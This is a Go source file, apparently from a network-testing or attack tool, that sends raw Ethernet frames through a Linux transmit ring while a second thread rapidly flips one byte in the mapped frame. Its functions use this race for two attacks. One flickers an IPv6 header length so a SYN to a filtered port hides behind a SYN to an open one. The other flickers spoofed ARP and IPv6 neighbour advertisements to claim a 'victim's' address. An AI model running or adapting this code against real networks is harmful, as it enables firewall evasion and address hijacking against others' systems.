// Copyright The Fairlead Authors.
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// A transmit ring hands its pages to the kernel as they are, all but the Ethernet header: a program that reads a packet twice, or
// reads it and lets others read it again, may find something else the second time.
const (
	ringPage  = 4096
	ringFrame = 2048
	ringData  = 32 // where the frame begins in its slot (TPACKET2_HDRLEN without the address)
	statusAt  = 0  // of struct tpacket2_hdr
	lengthAt  = 4
)

// ring is a transmit ring with one frame in use.
type ring struct {
	wire *wire
	mem  []byte
}

func openRing() (*ring, error) {
	w, err := openWire()
	if err != nil {
		return nil, err
	}
	r := &ring{wire: w}
	if err := unix.SetsockoptInt(w.fd, unix.SOL_PACKET, unix.PACKET_VERSION, unix.TPACKET_V2); err != nil {
		w.close()
		return nil, fmt.Errorf("choose the ring's version: %w", err)
	}
	req := unix.TpacketReq{Block_size: ringPage, Block_nr: 1, Frame_size: ringFrame, Frame_nr: ringPage / ringFrame}
	if err := unix.SetsockoptTpacketReq(w.fd, unix.SOL_PACKET, unix.PACKET_TX_RING, &req); err != nil {
		w.close()
		return nil, fmt.Errorf("make a transmit ring: %w", err)
	}
	if r.mem, err = unix.Mmap(w.fd, 0, ringPage, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED); err != nil {
		w.close()
		return nil, fmt.Errorf("map the ring: %w", err)
	}
	return r, nil
}

func (r *ring) close() {
	_ = unix.Munmap(r.mem)
	r.wire.close()
}

// flicker sends a frame again and again, while the byte at at changes all the time between its own value and another one.
func (r *ring) flicker(ctx context.Context, frame []byte, at int, other byte, until time.Time) error {
	var wg sync.WaitGroup
	var stop atomic.Bool
	values := [2]byte{frame[at], other}
	wg.Go(func() {
		runtime.LockOSThread()
		for n := 0; !stop.Load(); n++ {
			r.mem[ringData+at] = values[n&1]
			r.mem[ringFrame+ringData+at] = values[n&1]
		}
	})
	defer wg.Wait()
	defer stop.Store(true)
	for slot := 0; time.Now().Before(until) && ctx.Err() == nil; slot = (slot + 1) % 2 {
		base := slot * ringFrame
		status := (*uint32)(unsafe.Pointer(&r.mem[base+statusAt])) //nolint:gosec // the kernel reads it as that
		for atomic.LoadUint32(status) != unix.TP_STATUS_AVAILABLE {
			if time.Now().After(until) {
				return nil
			}
			runtime.Gosched()
		}
		copy(r.mem[base+ringData:base+ringData+at], frame[:at])
		copy(r.mem[base+ringData+at+1:], frame[at+1:])
		binary.NativeEndian.PutUint32(r.mem[base+lengthAt:], uint32(len(frame)))
		atomic.StoreUint32(status, unix.TP_STATUS_SEND_REQUEST)
		if err := unix.Sendto(r.wire.fd, nil, 0, &unix.SockaddrLinklayer{Ifindex: r.wire.index, Protocol: unix.ETH_P_ALL<<8 | unix.ETH_P_ALL>>8}); err != nil {
			return fmt.Errorf("send the ring: %w", err)
		}
		if slot == 1 {
			time.Sleep(time.Millisecond)
		}
	}
	return nil
}

// shareHeaders sends a SYN to an open port, behind a header whose length flickers: as long as it may be, it hides that one, and a SYN
// to another port comes behind it (IPv6). Somebody who reads the length twice judges one and passes on the other.
func shareHeaders(ctx context.Context, a *attempt) error {
	r, err := openRing()
	if err != nil {
		return err
	}
	defer r.close()
	const option, rest = 0x1e, 22 // an option that nobody knows and all skip, over the whole first SYN
	shown := tcp(a.own, a.to, option<<8|rest, a.Open, "S", 1000, 0, nil, nil)
	hidden := tcp(a.own, a.to, a.FromPort, a.Port, "S", 1000, 0, nil, a.data())
	payload := append(extension(unix.IPPROTO_TCP), padTo(shown, 24)...)
	p := a.packet(unix.IPPROTO_DSTOPTS, append(payload, hidden...))
	frame := ethernet(a.next, a.wire.mac, a.etherType(), p.bytes())
	return r.flicker(ctx, frame, 14+40+1, 3, time.Now().Add(max(a.For, time.Second)))
}

// stealShared is a claim that is the own address at one moment and the victim's at another.
func stealShared(ctx context.Context, a *attempt) error {
	r, err := openRing()
	if err != nil {
		return err
	}
	defer r.close()
	until := time.Now().Add(a.For)
	own, claim := a.own.AsSlice(), a.claim.AsSlice()
	last := len(own) - 1
	if string(own[:last]) != string(claim[:last]) {
		return fmt.Errorf("%s and %s differ in more than their last byte", a.own, a.claim)
	}
	if a.to.Is4() {
		frame := padTo(ethernet(a.next, a.wire.mac, unix.ETH_P_ARP, a.arp(2, a.own)), 60)
		return r.flicker(ctx, frame, 14+14+last, claim[last], until)
	}
	_, b := icmp(a.own, a.to, 136, 0, 0x20000000, append(claim, macOption(2, a.wire.mac)...)) // the checksum is that of the claim
	b[8+last] = own[last]
	p := ipPacket{src: a.own, dst: a.to, proto: unix.IPPROTO_ICMPV6, hop: 255, payload: b}
	return r.flicker(ctx, ethernet(a.next, a.wire.mac, unix.ETH_P_IPV6, p.bytes()), 14+40+8+last, claim[last], until)
}
